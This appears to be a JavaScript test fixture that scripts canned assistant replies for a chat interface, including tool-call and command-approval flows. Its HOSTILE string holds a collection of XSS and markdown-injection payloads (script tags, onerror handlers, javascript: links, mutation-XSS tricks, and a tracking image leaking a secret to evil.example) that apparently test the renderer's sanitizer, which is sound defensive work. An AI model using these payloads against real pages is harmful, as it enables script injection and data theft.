// What the scripted gateway answers, by a word in the message.

const MARKDOWN = `Here is what I found. **Yabby** reads your config and asks the best model that may be used.

## How a request goes

1. The message is written down before it is acknowledged.
2. A model is chosen: *privacy first*, then what is fast.
3. What fails is tried elsewhere, and you are told.

\`\`\`rust
/// The sum of what fits.
fn total(values: &[u32]) -> Option<u32> {
    values.iter().try_fold(0u32, |sum, value| sum.checked_add(*value)) // no overflow
}
\`\`\`

| server | window | speed |
|---|---:|---:|
| LM Studio | 32,768 | 42 |
| llama.cpp | 8,192 | 18 |

> Small models are quick, and often good enough.

More at [the documentation](https://example.org/docs/yabby) – or run \`yabby doctor\`.`;

const HOSTILE = `Hello <script>window.hacked = 1</script><img src=x onerror="window.hacked=2">

[click](javascript:window.hacked=3) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:x) [ok](https://good.example/a)

![leak](https://evil.example/pixel.png?secret=1) <svg onload="window.hacked=4"><animate onbegin=alert(1)></svg>

<style>body{display:none}</style><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name=a></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=5&gt;"></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.hacked=6>"></noscript>
<a href="https://x.example" onclick="window.hacked=7" style="position:fixed;inset:0" id="app" name="body">x</a><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example/">
<div style="background:url(https://evil.example/bg.png)">d</div><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video src="https://evil.example/v" autoplay></video>

\`\`\`html"><img src=x onerror=window.hacked=8>
<img src="https://evil.example/code.png" onerror="window.hacked=9">
\`\`\`

[ref]: javascript:window.hacked=10
[by reference][ref] <https://auto.example/> [//evil](//evil.example/x) [rel](/api/keys) [tab](https://a.example "x\\" onmouseover=\\"window.hacked=11")

| a | b |
|---|---|
| <img src=x onerror=window.hacked=12> | \`<b onmouseover=1>\` |`;

const REASONS = "The person wants to know how it works. I should be short, name the steps in their order, and show the code that matters. ";

export async function scene(text, steps) {
  const word = text.toLowerCase();
  if (word.includes("fallback")) return fallback(steps);
  if (word.includes("approval") || word.includes("delete the old")) return approval(steps);
  if (word.includes("tool") || word.includes("list the files")) return tools(steps);
  if (word.includes("slow") || word.includes("count")) return slow(steps, Number(/1 to (\d+)/.exec(word)?.[1] ?? 0));
  if (word.includes("hostile")) return plain(steps, HOSTILE);
  if (word.includes("long")) return plain(steps, Array.from({ length: 60 }, (_, n) => `Paragraph ${n + 1} of a long answer, which goes on for a while.`).join("\n\n"));
  if (word.includes("queue")) return queue(steps);
  if (/[一-鿿]/.test(text)) return plain(steps, "您好！**Yabby** 會先把訊息存下來，再選擇最適合的模型。\n\n- 私密內容只留在本機\n- 失敗時會改用其他模型，並且告訴您\n\n```python\nprint('哈囉')\n```");
  return plain(steps, MARKDOWN, true);
}

function answer(steps, text) {
  const attempts = [...steps.running.attempts, steps.attempt({})];
  steps.write({ kind: "assistant", text, attempts });
}

async function plain(steps, text, thinks = false) {
  steps.trying("lmstudio/minimax-m2.1");
  await steps.wait(60);
  if (thinks) await steps.think(REASONS);
  await steps.say(text, { pause: 4, size: 9 });
  answer(steps, text);
}

/** With a number it counts to there, and waits before the end until the test lets it go on. */
async function slow(steps, to) {
  steps.trying("llamacpp/qwen2.5-coder-1.5b");
  let text = "";
  for (let n = 1; n <= (to || 40); n += 1) text += `${n}. the number ${n}\n`;
  const most = to ? Math.min(text.length - 40, 400) : 0;
  await steps.say(text.slice(0, most), { pause: 90, size: 9 });
  while (to && !steps.world.hurry) await steps.wait(50);
  await steps.say(text.slice(most), { pause: to ? 0 : 90, size: 9 });
  answer(steps, text);
}

async function queue(steps) {
  steps.trying("llamacpp/qwen2.5-coder-1.5b");
  for (const ahead of [2, 1]) {
    steps.progress({ stage: "queued", ahead });
    await steps.wait(900);
  }
  steps.progress({ stage: "loading" });
  await steps.wait(900);
  for (const done of [0, 2000, 4000]) {
    steps.progress({ stage: "prefill", done, total: 4000 });
    await steps.wait(900);
  }
  await steps.say("That took a moment.");
  answer(steps, "That took a moment.");
}

async function fallback(steps) {
  steps.trying("lmstudio/minimax-m2.1");
  await steps.wait(200);
  steps.attempt({ outcome: "failed", error: "refused", message: "nothing listens at http://192.168.1.20:1234", first_token_ms: null, total_ms: 14, usage: {} });
  steps.trying("Opus");
  await steps.wait(300);
  await steps.say("The first server is away, so I am answering instead.");
  const attempts = [...steps.running.attempts, steps.attempt({ zone: "hosted", cost: 0.0123 })];
  steps.write({ kind: "assistant", text: "The first server is away, so I am answering instead.", attempts });
}

async function tools(steps) {
  steps.trying("lmstudio/minimax-m2.1");
  await steps.say("I will look.");
  const call = { id: `c${steps.world.seq}`, name: "exec", arguments: { command: "ls -l notes", timeout: 20 } };
  const first = steps.attempt({});
  steps.write({ kind: "assistant", text: "I will look.", calls: [call], attempts: [first] });
  steps.tool({ ...call, state: "running" });
  let output = "";
  for (const name of ["2026-11-24.md", "2026-11-25.md", "ideas.md", "shopping.md"]) {
    const piece = `-rw-r--r-- 1 me me  812 ${name}\n`;
    output += piece;
    steps.tool({ ...call, state: "running" }, { piece });
    await steps.wait(260);
  }
  steps.tool({ ...call, state: "done", summary: { en: "4 lines", "zh-TW": "4 行" } });
  steps.write({ kind: "tool", text: output, call: { id: call.id, name: call.name } });
  steps.trying("lmstudio/minimax-m2.1");
  await steps.say("There are four notes; the newest is **2026-11-25.md**.");
  answer(steps, "There are four notes; the newest is **2026-11-25.md**.");
}

async function approval(steps) {
  steps.trying("lmstudio/minimax-m2.1");
  await steps.wait(100);
  const asked = steps.ask({
    en: "run a command on this machine:\n\n  rm -r notes/old\n\nin /home/me/notes",
    "zh-TW": "在這台機器上執行指令：\n\n  rm -r notes/old\n\n於 /home/me/notes",
  });
  const call = { id: `c${steps.world.seq}`, name: "exec", arguments: { command: "rm -r notes/old" } };
  steps.write({ kind: "assistant", text: "", calls: [call], attempts: [steps.attempt({})] });
  const how = `\n\nyes: /approve ${asked.id}    no: /deny ${asked.id}`;
  const words = { en: asked.question.en + how, "zh-TW": asked.question["zh-TW"] + how };
  steps.write({ kind: "notice", text: words.en, words, approval: asked });
  asked.answered = (allowed) => {
    const result = { kind: "tool", call: { id: call.id, name: call.name } };
    steps.write(allowed ? { ...result, text: "" } : { ...result, text: "[not run: the owner does not want that]", state: "denied" });
    const words = allowed ? { en: "allowed: rm -r notes/old", "zh-TW": "已允許：rm -r notes/old" } : { en: "denied: rm -r notes/old", "zh-TW": "已拒絕：rm -r notes/old" };
    steps.world.add(steps.key, { kind: "notice", text: words.en, words });
  };
}
